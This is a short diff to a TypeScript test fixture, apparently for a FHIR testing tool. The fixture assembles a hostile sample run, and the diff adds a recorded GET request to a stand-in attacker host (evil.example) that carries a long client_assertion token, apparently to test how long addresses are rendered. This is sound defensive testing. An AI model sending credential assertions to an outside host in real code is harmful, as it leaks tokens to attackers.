@@ -37,6 +37,8 @@ export function hostileRun(): Run {
         body: JSON.stringify({ resourceType: 'CapabilityStatement', fhirVersion: attack, implementation: { url: attack } }),
       },
     }),
+    // An assertion in an address has no place where a line could end.
+    exchange(4, { request: { method: 'GET', url: `https://evil.example/token?client_assertion=${'e'.repeat(700)}`, headers: {} } }),
   ];
   return sampleRun({
     target: { ...sampleRun().target, name: attack, guides: { [attack]: attack } },
